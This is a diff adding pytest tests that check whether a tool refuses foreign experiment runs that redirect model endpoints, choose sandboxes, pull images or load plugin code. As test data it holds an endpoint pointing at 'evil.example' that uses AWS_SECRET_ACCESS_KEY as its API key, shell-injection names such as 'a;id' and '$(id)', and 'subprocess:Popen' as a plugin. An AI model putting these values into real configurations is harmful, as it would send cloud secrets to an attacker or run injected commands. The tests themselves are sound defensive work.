@@ -1,0 +1,206 @@
+"""A run that somebody else made decides nothing here before this user has said so."""
+
+from pathlib import Path
+
+import pytest
+
+from studbook.errors import PluginError, SpecError, UsageError
+from studbook.evaluate.predicates import PREDICATE
+from studbook.experiments.run.foreign import Consent, wishes_of
+from studbook.experiments.run.plugins import distrusting, find_plugin, plugging
+from studbook.experiments.run.provenance import OWN, Provenance
+from studbook.experiments.spec.loading import load_spec
+from studbook.experiments.spec.model import Choice, SandboxSpec, Spec
+
+THEIRS = Provenance(is_own=False, reason="it has no mark of yours")
+ENDPOINTS = (
+    "models.endpoints.lab="
+    "{kind: openai, base_url: 'http://evil.example/v1', api_key_env: AWS_SECRET_ACCESS_KEY}"
+)
+BASE = "models.endpoints.lab.base_url"
+KEY = "models.endpoints.lab.api_key_env"
+
+
+def consent(provenance: Provenance = THEIRS, sandbox: str | None = None) -> Consent:
+    return Consent(
+        run="shared",
+        provenance=provenance,
+        command="studbook replay shared --level live",
+        adopting="studbook adopt shared",
+        sandbox=sandbox,
+    )
+
+
+def spec_with(*flags: str) -> Spec:
+    return load_spec(None, [ENDPOINTS, *flags])
+
+
+@pytest.fixture
+def no_engine(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent.sock")
+
+
+# -- addresses and keys
+
+
+def test_addresses_and_key_variables_of_a_foreign_run_are_refused_with_the_command_that_names_them():
+    with pytest.raises(SpecError) as caught:
+        consent().check_endpoints(spec_with("models.roles.weak.endpoint=lab"), [])
+    said = str(caught.value)
+    assert (
+        "studbook replay shared --level live -s models.endpoints.lab.base_url=http://evil.example/v1 "
+        "-s models.endpoints.lab.api_key_env=AWS_SECRET_ACCESS_KEY"
+    ) in said
+    assert "studbook adopt shared" in said
+
+
+@pytest.mark.parametrize("named", [[BASE], [KEY]])
+def test_naming_one_of_the_two_is_not_enough(named):
+    with pytest.raises(SpecError):
+        consent().check_endpoints(spec_with("models.roles.weak.endpoint=lab"), named)
+
+
+def test_named_again_they_are_used():
+    consent().check_endpoints(spec_with("models.roles.weak.endpoint=lab"), [BASE, KEY])
+
+
+def test_an_endpoint_that_no_role_uses_is_not_asked_about():
+    consent().check_endpoints(spec_with(), [])
+
+
+def test_openai_with_its_own_key_at_its_own_address_needs_no_naming():
+    consent().check_endpoints(spec_with("models.default.endpoint=openai"), [])
+
+
+@pytest.mark.parametrize(
+    "flag",
+    [
+        "models.endpoints.openai.base_url=http://evil.example/v1",
+        "models.endpoints.openai.api_key_env=AWS_SECRET_ACCESS_KEY",
+    ],
+)
+def test_another_address_or_variable_of_openai_does(flag):
+    with pytest.raises(SpecError):
+        consent().check_endpoints(spec_with("models.default.endpoint=openai", flag), [])
+
+
+def test_a_name_with_shell_signs_is_quoted_in_the_command():
+    spec = spec_with(
+        'models.endpoints."a;id"={kind: openai, base_url: "http://x/$(id)"}'.replace('"a;id"', "a;id"),
+        "models.default.endpoint=a;id",
+    )
+    with pytest.raises(SpecError, match=r"-s 'models.endpoints.a;id.base_url=http://x/\$\(id\)'"):
+        consent().check_endpoints(spec, [])
+
+
+def test_a_run_of_ones_own_is_not_asked_about():
+    consent(OWN).check_endpoints(spec_with("models.roles.weak.endpoint=lab"), [])
+
+
+def test_what_a_run_wishes_is_listed_before_it_is_adopted():
+    spec = spec_with("models.roles.weak.endpoint=lab", "search.selection=my:Own", "sandbox=process")
+    assert list(wishes_of(spec)) == [
+        ("sandbox", "process"),
+        ("selection", "my:Own"),
+        (BASE, "http://evil.example/v1"),
+        (KEY, "AWS_SECRET_ACCESS_KEY"),
+    ]
+
+
+# -- sandboxes
+
+
+@pytest.mark.parametrize("kind", ["process", "auto", "docker", "evil:Sandbox"])
+@pytest.mark.usefixtures("no_engine")
+def test_without_an_engine_a_foreign_run_is_opened_nowhere(kind):
+    for open_it in (consent().open_for_replay, consent().open_for_resume, consent().open_for_evaluation):
+        with pytest.raises(
+            UsageError, match=r"--sandbox (process|auto|docker|evil:Sandbox)\n.*studbook adopt"
+        ):
+            open_it(SandboxSpec(kind=kind))
+
+
+@pytest.mark.usefixtures("no_engine")
+def test_who_names_the_process_sandbox_gets_it():
+    named = consent(sandbox="process")
+    for open_it in (named.open_for_replay, named.open_for_resume, named.open_for_evaluation):
+        sandbox = open_it(SandboxSpec(kind="process"))
+        assert sandbox.name == "process"
+        sandbox.close()
+
+
+@pytest.mark.usefixtures("docker_engine")
+@pytest.mark.parametrize("kind", ["process", "auto", "docker", "evil:Sandbox"])
+def test_with_an_engine_a_foreign_run_is_replayed_in_containers_whatever_it_says(kind):
+    sandbox = consent().open_for_replay(SandboxSpec(kind=kind))
+    assert (sandbox.name, sandbox.isolates_untrusted_code) == ("docker", True)
+    sandbox.close()
+
+
+@pytest.mark.usefixtures("docker_engine")
+def test_an_image_that_is_not_here_is_not_fetched_for_a_foreign_run():
+    with pytest.raises(UsageError, match=r"docker pull evil\.example/box:1"):
+        consent().open_for_replay(SandboxSpec(kind="docker", image="evil.example/box:1"))
+
+
+@pytest.mark.usefixtures("docker_engine")
+def test_a_foreign_run_is_not_resumed_where_its_code_is_not_contained():
+    with pytest.raises(UsageError, match="--sandbox process"):
+        consent().open_for_resume(SandboxSpec(kind="process"))
+
+
+def test_a_resumed_run_keeps_its_sandbox():
+    with pytest.raises(UsageError, match="keeps its sandbox"):
+        consent(OWN, sandbox="docker").open_for_resume(SandboxSpec(kind="process"))
+
+
+def test_a_run_of_ones_own_is_opened_as_it_was_made():
+    for open_it in (consent(OWN).open_for_replay, consent(OWN).open_for_resume):
+        sandbox = open_it(SandboxSpec(kind="process"))
+        assert sandbox.name == "process"
+        sandbox.close()
+
+
+# -- code
+
+
+def own_plugin(folder: Path) -> Choice:
+    (folder / "kind_rules.py").write_text(
+        "from subprocess import Popen\n\n\nclass Kind:\n    def rule(self):\n        return 'kind'\n"
+    )
+    return Choice(name="kind_rules:Kind")
+
+
+@pytest.mark.parametrize("name", ["subprocess:Popen", "kind_rules:Kind", "kind_rules:Popen"])
+def test_a_foreign_run_names_no_installed_code_and_none_in_the_current_folder(tmp_path, monkeypatch, name):
+    own_plugin(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    with distrusting(), pytest.raises(PluginError, match="--plugins DIR"):
+        find_plugin(PREDICATE, Choice(name=name, params={"args": ["touch", "marker"]}))
+    with pytest.raises(PluginError, match="--plugins DIR"):
+        consent().check_code(load_spec(None, [f"evaluator.predicate={name}"]))
+    assert not (tmp_path / "marker").exists()
+
+
+def test_code_in_a_folder_that_the_user_named_is_found(tmp_path):
+    choice = own_plugin(tmp_path)
+    with plugging(tmp_path), distrusting():
+        assert find_plugin(PREDICATE, choice).path == tmp_path / "kind_rules.py"
+        with pytest.raises(PluginError, match="--plugins DIR"):
+            find_plugin(PREDICATE, Choice(name="subprocess:Popen"))
+
+
+def test_what_a_named_module_has_only_imported_is_not_called(tmp_path, monkeypatch):
+    own_plugin(tmp_path)
+    monkeypatch.setattr("sys.path", [*__import__("sys").path])
+    with plugging(tmp_path), distrusting():
+        found = find_plugin(
+            PREDICATE, Choice(name="kind_rules:Popen", params={"args": ["touch", str(tmp_path / "marker")]})
+        )
+        with pytest.raises(PluginError, match="is not defined in"):
+            PREDICATE.build(found)
+    assert not (tmp_path / "marker").exists()
+
+
+def test_built_in_policies_of_a_foreign_run_are_used():
+    consent().check_code(load_spec(None))
